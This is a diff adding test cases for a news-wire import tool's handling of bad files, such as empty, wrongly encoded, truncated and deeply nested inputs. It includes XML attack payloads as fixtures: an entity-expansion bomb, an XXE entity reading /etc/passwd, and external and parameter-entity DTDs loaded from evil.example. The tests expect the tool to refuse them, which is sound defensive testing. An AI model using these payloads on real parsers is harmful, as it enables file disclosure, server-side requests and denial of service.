@@ -209,3 +209,79 @@ def expected(fmt: str, copy: Copy, field: str) -> str:
     if field == "note":
         return f"Not placed (between headline and dateline): “{value}”."
     return value
+
+
+# ------------------------------------------------------------------ bad files
+# Shared by the command's and the admin page's cases. Each refuses the whole file.
+
+BOMB = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">
+<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]>
+<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x">&lol3;</newsItem>"""
+XXE = b"""<?xml version="1.0"?>
+<!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x">&xxe;</newsItem>"""
+EXTERNAL_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE newsItem SYSTEM "http://evil.example/g2.dtd">
+<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"/>"""
+PARAMETER_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE newsItem [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
+<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="x"/>"""
+SEED_TEXT = agency_text(Copy())
+SEED_NINJS = ninjs(Copy())
+SEED_NEWSML = newsml(Copy())
+DEEP_XML = SEED_NEWSML.replace(b"<p>", b"<div>" * 5_000 + b"<p>", 1).replace(
+    b"</p>", b"</p>" + b"</div>" * 5_000, 1
+)
+SAFETY = "refused for safety"
+FORMAT_OF = {".txt": "agency-text", ".json": "ninjs", ".xml": "newsml-g2"}
+
+# (case, file name, bytes, the reason printed after the file's name); the file's
+# suffix names its format (FORMAT_OF).
+BAD_FILES = [
+    ("empty", "empty.txt", b"", "The file is empty."),
+    ("blank", "blank.txt", b" \n\t\n", "The file is empty."),
+    ("binary", "photo.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary file"),
+    ("utf16-without-bom", "u16.txt", SEED_TEXT.decode().encode("utf-16-le"), "binary"),
+    ("cp1251", "cp1251.txt", "Заголовок\n\nМОСКВА. /ТАСС/.".encode("cp1251"), "UTF-8"),
+    (
+        "latin1-in-utf8-xml",
+        "l1.xml",
+        SEED_NEWSML.replace(b"Vladivostok", b"V\xe9"),
+        "not well-formed",
+    ),
+    (
+        "unknown-encoding",
+        "enc.xml",
+        SEED_NEWSML.replace(b'"UTF-8"', b'"x-klingon"'),
+        "unknown encoding",
+    ),
+    ("truncated-text", "cut.txt", SEED_TEXT[:60], "No dateline found"),
+    ("truncated-json", "cut.json", SEED_NINJS[:200], "the file looks cut short"),
+    ("truncated-xml", "cut.xml", SEED_NEWSML[:700], "The XML is not well-formed"),
+    ("entity-bomb", "bomb.xml", BOMB, SAFETY),
+    ("external-entity", "xxe.xml", XXE, SAFETY),
+    ("external-dtd", "dtd.xml", EXTERNAL_DTD, SAFETY),
+    ("parameter-entity", "pe.xml", PARAMETER_ENTITY, SAFETY),
+    ("deep-xml", "deep.xml", DEEP_XML, "nests elements thousands deep"),
+    (
+        "deep-json",
+        "deep.json",
+        b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
+        "nests too deeply",
+    ),
+    (
+        "huge-number",
+        "num.json",
+        SEED_NINJS.replace(b'"1"', b"9" * 5_000, 1),
+        "cannot be read",
+    ),
+    ("json-list", "list.json", b"[" + SEED_NINJS + b"]", "this is not one"),
+    ("not-newsml", "page.xml", b"<html><body><p>Hi</p></body></html>", "not NewsML-G2"),
+    (
+        "picture-only-ninjs",
+        "pic.json",
+        b'{"uri": "urn:p", "type": "picture"}',
+        "is a picture, not a story",
+    ),
+]
